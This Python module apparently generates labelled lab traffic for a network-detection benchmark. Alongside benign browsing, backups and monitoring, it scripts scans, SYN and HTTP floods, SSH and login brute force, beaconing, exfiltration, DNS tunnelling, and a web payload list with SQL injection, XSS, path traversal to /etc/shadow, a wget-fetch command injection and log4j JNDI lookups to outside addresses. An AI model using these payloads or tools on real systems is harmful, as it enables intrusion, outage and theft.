"""Who does what in the lab: benign people and machines, and attackers. Only real programs make traffic.

Always true
  - Every loop is bounded by a count or by the deadline of its part; every program by a timeout.
  - A part's rules name its own addresses and ports, so that each flow of the recording has one right label.
    Attackers' tools are given addresses, not names: an attack makes no DNS flows that look like the victim's.
  - The same seed gives the same choices; time stamps and the interleaving are the real ones.
"""

from __future__ import annotations

import base64
from collections.abc import Sequence
from functools import partial
from urllib.parse import quote

from bench.lab.services import PAGES, TUNNEL_PASSWORD
from bench.lab.stage import SSH_OPTIONS, Act, Stage
from bench.lab.topology import HOSTS, RESOLVER

BROWSERS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1",
)


# -- benign -----------------------------------------------------------------------------------------


def browse(host: str, pause_s: float) -> Act:
    sites = [
        f"{name}.example" for name in ("http://www.site", "https://www.site", "http://www.corp", "http://files.corp")
    ]
    inside = HOSTS[host].inside

    def act(stage: Stage) -> None:
        rng = stage.rng
        agent = rng.choice(BROWSERS)
        for _ in stage.until_deadline(lambda: rng.expovariate(1 / pause_s) + 0.5):
            base = rng.choices(sites, (4, 3, 3, 1))[0]
            resolve: list[str] = []
            if not inside:  # a customer outside has resolvers of his own, which nobody here sees
                base = rng.choice(("http", "https")) + "://www.corp.example"
                web = f"[{HOSTS['web'].ip6}]" if host == "remote1" and rng.random() < 0.5 else HOSTS["web"].ip
                resolve = ["--resolve", f"*:80:{web}", "--resolve", f"*:443:{web}"]
            private = base.startswith("https")  # what is encrypted cannot be compressed: shorter pages, fewer of them
            wanted = (5, 3, 5, 1, 0) if private else (5, 4, 3, 2, 1)
            pages = rng.choices(tuple(PAGES), wanted, k=rng.randint(1, 2 if private else 4))
            urls = [f"{base}/{page}" for page in pages]
            if "files" not in base and rng.random() < 0.5:
                urls.insert(1, f"{base}/logo.png")
            if rng.random() < 0.2:
                urls.append(f"{base}/search?q={rng.choice(('union+hall', 'select+menu', 'paper', 'drop+off+table'))}")
            reading = ["--rate", f"{rng.randint(25, 60)}/m"] if rng.random() < 0.4 else []
            outputs = [word for _ in urls for word in ("-o", "/dev/null")][2:]
            stage.curl(host, *resolve, *reading, *outputs, *urls, agent=agent, timeout_s=20)

    return act


def downloads(stage: Stage) -> None:
    for i in stage.spread(stage.n(4)):
        name = ("list.txt", "tool.deb")[i % 2]
        slow = ["--limit-rate", "30k"] if i == 2 else []
        stage.curl("ws3", *slow, f"http://mirror.example/{name}", agent="Debian APT-HTTP/1.3 (2.6.1)")


def uploads(stage: Stage) -> None:
    for i in stage.spread(stage.n(6)):
        sent = stage.file(stage.rng.randint(3_000, 11_000), random_bytes=i % 2 == 0)
        stage.curl("ws4", "-T", sent, f"https://cloud.example/upload/photo-{i}.jpg", agent=BROWSERS[0])


def slow_upload(stage: Stage) -> None:
    """A bad mobile line: looks like a slow-body attack and is none."""
    sent = stage.file(24_000, random_bytes=False)
    for _ in stage.spread(stage.n(3)):
        url = f"http://{HOSTS['web'].ip}/upload/scan.pdf"
        stage.curl("remote2", "--limit-rate", "3k", "-T", sent, url, agent=BROWSERS[2])


def rush(stage: Stage) -> None:
    """A sale begins: many customers at once, and no attack."""
    urls = [f"http://{HOSTS['web'].ip}/{page}" for page in ("shop.html", "about.html", "index.html")]
    customers = [(f"remote{i % 3 + 1}", urls[i % 3], BROWSERS[i % 3]) for i in range(stage.n(45))]
    stage.crowd([partial(stage.curl, host, url, agent=agent) for host, url, agent in customers], 6)


def names(stage: Stage) -> None:
    rng = stage.rng
    for _ in stage.spread(stage.n(40)):
        host = rng.choice(("ws1", "ws2", "ws3", "ws4"))
        hashed = f"{rng.randbytes(14).hex()}.{rng.choice('abcd')}{rng.randint(1, 9)}.cdn.example"  # long, and benign
        plain = ("www.site.example", "www.corp.example", "mirror.example", "printer.corp.example")
        name = rng.choice((*plain, hashed, hashed))
        kind = rng.choices(("A", "AAAA", "TXT", "MX"), (6, 2, 1, 1))[0]
        server = f"@{HOSTS['dns'].ip6}" if host == "ws1" and rng.random() < 0.5 else f"@{RESOLVER}"
        stage.run(host, "dig", "+tries=1", "+time=2", "+short", server, kind, name)


def shell_work(stage: Stage) -> None:
    ssh = f"ssh {' '.join(SSH_OPTIONS)} -i {stage.services.key}"
    key = str(stage.services.key)
    for i in stage.spread(stage.n(16)):
        to = ("files", "web", "app", "db")[i % 4]
        ip = HOSTS[to].ip
        if i % 8 == 3:
            sent = stage.file(stage.rng.randint(3_000, 8_000))
            stage.run("dev", "scp", *SSH_OPTIONS, "-i", key, sent, f"root@{ip}:drop.bin")
        elif i % 8 == 6:
            tree = stage.lab.work / "home" / "tree"
            tree.mkdir(exist_ok=True)
            for page in range(6):
                (tree / f"{page}.html").write_text(f"{stage.rng.random()}\n" * stage.rng.randint(40, 200))
            stage.run("dev", "rsync", "-a", "-e", ssh, str(tree), f"root@{ip}:copy/")
        elif i % 8 == 4:
            for typo in ("pasword1", "password", "Password1")[: stage.rng.randint(1, 3)]:  # a person, not an attack
                stage.guess("dev", ip, "root", typo)
                stage.lab.pause(stage.rng.uniform(1.5, 3))
            stage.ssh("dev", ip, "date -u")
        else:
            stage.ssh("dev", ip, stage.rng.choice(("date -u", "sleep 2; true", "seq 1 400", "true", "seq 1 1200")))


def speed_test(stage: Stage) -> None:
    server = HOSTS["speed"].ip
    steady = ["iperf3", "-c", server, "-p", "5201", "-t", "2", "--repeating-payload"]
    for options in (["-l", "4K", "-b", "600K"], ["-R", "-l", "4K", "-b", "800K"], ["-u", "-l", "600", "-b", "300K"]):
        stage.run("ws2", *steady, *options, timeout_s=8)


def clocks(stage: Stage) -> None:
    hosts = ("web", "files", "ws1", "ws7")
    running = [stage.lab.spawn(host, stage.services.chrony_client(host)) for host in hosts]
    try:
        stage.lab.pause(stage.left_s)
    finally:
        for process in running:
            stage.lab.end(process)


def monitor(stage: Stage) -> None:
    """Regular polls of many hosts and ports from one place: what a scan looks like, and is not."""
    ports = {"web": (22, 80, 443), "app": (22, 80, 8080), "files": (22, 80), "db": (22, 8086), "printer": (631, 9100)}
    for turn in stage.until_deadline(lambda: 14.0):
        for name, numbers in ports.items():
            ip = HOSTS[name].ip
            for port in numbers:
                stage.run("monitor", "nc", "-z", "-w", "1", ip, str(port), timeout_s=3)
            if turn % 2 == 0:
                stage.run("monitor", "ping", "-n", "-q", "-c", "2", "-i", "0.3", ip, timeout_s=4)
        stage.curl("monitor", f"http://{HOSTS['web'].ip}/index.html", agent="check_http/v2.3.3 (monitoring-plugins)")
        stage.run("monitor", "dig", "+tries=1", "+time=2", "+short", f"@{RESOLVER}", "www.corp.example")
        if turn % 3 == 0:
            stage.run("monitor", "ping", "-6", "-n", "-q", "-c", "2", "-i", "0.3", "2001:db8:1::1", timeout_s=4)


def heartbeat(stage: Stage) -> None:
    """An update agent that reports every few seconds: what a beacon looks like, and is not."""
    for _ in stage.until_deadline(lambda: 5.0 + stage.rng.uniform(0, 0.2)):
        for host in ("ws2", "ws6"):
            stage.curl(host, f"http://{HOSTS['mirror'].ip}/api/heartbeat?host={host}", agent="UpdateAgent/4.2")


def ping6(stage: Stage) -> None:
    for _ in stage.spread(stage.n(6)):
        stage.run("ws2", "ping", "-6", "-n", "-q", "-c", "3", "-i", "0.4", HOSTS["site"].ip6 or "", timeout_s=5)


def backup(stage: Stage) -> None:
    """The nightly copy to a provider outside: what exfiltration looks like, and is not."""
    cloud = HOSTS["cloud"].ip
    for i in range(stage.n(14)):
        sent = stage.file(stage.rng.randint(3_000, 11_000))
        stage.curl("files", "-T", sent, f"https://{cloud}/upload/backup-{i:03d}.tar.zst", agent="restic/0.16.4")
        stage.lab.pause(stage.rng.uniform(0.05, 0.4))
    tree = stage.lab.work / "home" / "archive"
    tree.mkdir(exist_ok=True)
    for page in range(4):
        (tree / f"{page}.dat").write_bytes(stage.rng.randbytes(6_000))
    ssh = f"ssh {' '.join(SSH_OPTIONS)} -i {stage.services.key}"
    stage.run("files", "rsync", "-a", "-e", ssh, str(tree), f"root@{cloud}:vault/", timeout_s=15)


# -- attacks ----------------------------------------------------------------------------------------


def nmap(host: str, *scans: str) -> Act:
    def act(stage: Stage) -> None:
        for scan in scans:
            words = scan.replace("{n}", str(stage.n(100))).replace("{few}", str(stage.n(24))).split()
            stage.run(host, "nmap", "-n", "-Pn", *words, timeout_s=90)
            stage.lab.pause(1)

    return act


def lateral(host: str, ports: Sequence[int], tool: str) -> Act:
    names = "web app files db printer ws1 ws2 ws3 ws4 dev monitor"
    servers = [HOSTS[name].ip for name in names.split()]

    def act(stage: Stage) -> None:
        if tool == "nmap":
            numbers = ",".join(map(str, ports))
            connect = ["-n", "-Pn", "-sT", "-T4", "--max-retries", "0", "-p", numbers]
            stage.run(host, "nmap", *connect, *servers, timeout_s=40)
            return
        for ip in servers:
            for port in ports:
                stage.run(host, "nc", "-z", "-w", "1", ip, str(port), timeout_s=3)

    return act


def flood(bots: Sequence[str], *hping: str) -> Act:
    """Many sources at once; -a names one of the bots' own documentation addresses, never a random one."""

    def act(stage: Stage) -> None:
        some = bots[: stage.n(len(bots))]
        stage.crowd(
            [partial(stage.run, "bots", "hping3", "-q", "-a", bot, *hping, timeout_s=15) for bot in some], len(some)
        )

    return act


def slow(host: str, *options: str) -> Act:
    def act(stage: Stage) -> None:
        words = ["-c", str(stage.n(44)), "-l", str(int(max(5, stage.left_s - 4))), *options]
        stage.run(host, "slowhttptest", *words, timeout_s=stage.left_s)

    return act


def hammer(host: str, url: str, count: int) -> Act:
    def act(stage: Stage) -> None:
        agent = "Mozilla/4.0 (compatible; MSIE 6.0)"
        jobs = [partial(stage.curl, host, f"{url}?{i:x}", agent=agent) for i in range(stage.n(count))]
        stage.crowd(jobs, 5)

    return act


def syn_flood(host: str, to: str, port: int) -> Act:
    def act(stage: Stage) -> None:
        stage.run(host, "hping3", "-q", "-S", "-p", str(port), "-c", str(stage.n(60)), "-i", "u8000", to, timeout_s=15)

    return act


def brute_ssh(host: str, to: str, count: int, at_once: int, pause_s: float) -> Act:
    users = ("root", "admin", "test", "oracle", "ubuntu", "git", "postgres", "backup")
    passwords = ("123456", "password", "admin", "toor", "letmein", "qwerty", "root123", "changeme", "P@ssw0rd")

    def act(stage: Stage) -> None:
        def guess_one(i: int) -> None:
            stage.guess(host, to, users[i % len(users)], passwords[i % len(passwords)] + str(i // 9 or ""))
            stage.lab.pause(stage.rng.uniform(0, pause_s))

        stage.crowd([partial(guess_one, i) for i in range(stage.n(count))], at_once)

    return act


def brute_form(host: str, url: str, count: int) -> Act:
    def act(stage: Stage) -> None:
        for i in range(stage.n(count)):
            stage.curl(host, "-d", f"user=admin&password=spring{2000 + i}", url, agent="python-requests/2.31.0")
            stage.lab.pause(stage.rng.uniform(0.1, 0.5))

    return act


def beacon(host: str, url: str, period_s: float, jitter: float, agent: str) -> Act:
    def act(stage: Stage) -> None:
        rng = stage.rng
        bot = rng.randbytes(4).hex()
        for i in stage.until_deadline(lambda: period_s * rng.uniform(1 - jitter, 1 + jitter)):
            if i % 9 == 4:
                answer = base64.b64encode(rng.randbytes(rng.randint(300, 1_800))).decode()
                stage.curl(host, "-d", answer, f"{url}/result?id={bot}", agent=agent)
            else:
                stage.curl(host, f"{url}/check?id={bot}&n={i}", agent=agent)

    return act


def exfiltrate(host: str, url: str, count: int, sizes: tuple[int, int], agent: str, pause_s: float) -> Act:
    def act(stage: Stage) -> None:
        for i in range(stage.n(count)):
            if stage.left_s <= 0:
                return
            archive = i % 3 == 0 or url.startswith("https")
            sent = stage.file(stage.rng.randint(*sizes) // (2 if archive else 1), random_bytes=archive)
            name = f"{stage.rng.randbytes(5).hex()}-{i}.{'7z' if archive else 'csv'}"
            stage.curl(host, "-T", sent, f"{url}/upload/{name}", agent=agent)
            stage.lab.pause(stage.rng.uniform(0.2, 1) * pause_s)

    return act


def web_attack(host: str, base: str, agent: str, kinds: Sequence[str], count: int) -> Act:
    payloads = {
        "sqli": (
            "1' OR '1'='1",
            "1 UNION SELECT user,password FROM users--",
            "1; DROP TABLE orders--",
            "1' AND SLEEP(3)--",
        ),
        "xss": ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg/onload=fetch('//203.0.113.41')>"),
        "traversal": ("../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//windows/win.ini"),
        "command": (";cat /etc/passwd", "|id", "$(wget http://203.0.113.42/x.sh)", "`uname -a`"),
        "log4j": ("${jndi:ldap://203.0.113.42:1389/a}", "${${lower:j}ndi:rmi://203.0.113.42/x}"),
    }

    def act(stage: Stage) -> None:
        rng = stage.rng
        for i in range(stage.n(count)):
            kind = kinds[i % len(kinds)]
            payload = rng.choice(payloads[kind])
            if kind == "traversal":
                stage.curl(host, "--path-as-is", f"{base}/static/{payload}", agent=agent)
            elif kind == "log4j":
                stage.curl(host, "-H", f"X-Api-Version: {payload}", f"{base}/login", agent=payload)
            elif i % 7 == 6:
                stage.curl(host, "--data-urlencode", f"user={payload}", f"{base}/login", agent=agent)
            else:
                page = rng.choice(("product?id=", "search?q=", "product?cat="))
                stage.curl(host, f"{base}/{page}{rng.randint(1, 99)}{quote(payload)}", agent=agent)
            stage.lab.pause(rng.uniform(0.05, 0.9))

    return act


def dig_tunnel(host: str, server: str, domain: str, kind: str, count: int) -> Act:
    """A file in base32, 30 to 100 bytes a name: one query, one flow."""

    def act(stage: Stage) -> None:
        for i in range(stage.n(count)):
            data = base64.b32encode(stage.rng.randbytes(stage.rng.randint(30, 100))).decode().rstrip("=").lower()
            labels = ".".join(data[at : at + 60] for at in range(0, len(data), 60))
            stage.run(host, "dig", "+tries=1", "+time=2", "+short", f"@{server}", kind, f"{i:x}.{labels}.{domain}")
            stage.lab.pause(stage.rng.uniform(0.05, 0.5))

    return act


def iodine(host: str, server: str, domain: str, kind: str, inner: str, run_s: float, pings: int) -> Act:
    def act(stage: Stage) -> None:
        line = ["-f", "-r", "-m", "700", "-P", TUNNEL_PASSWORD, "-T", kind, server, domain]
        tunnel = stage.lab.spawn(host, ["iodine", *line], log=stage.lab.work / f"{host}.log")
        try:
            stage.lab.pause(min(run_s / 2, stage.left_s))
            count = str(stage.n(pings))
            ping = ["ping", "-n", "-q", "-I", "dns0", "-s", "400", "-i", "0.3"]
            stage.run(host, *ping, "-c", count, inner, timeout_s=run_s)
            stage.lab.pause(min(run_s / 4, stage.left_s))
        finally:
            stage.lab.end(tunnel)

    return act
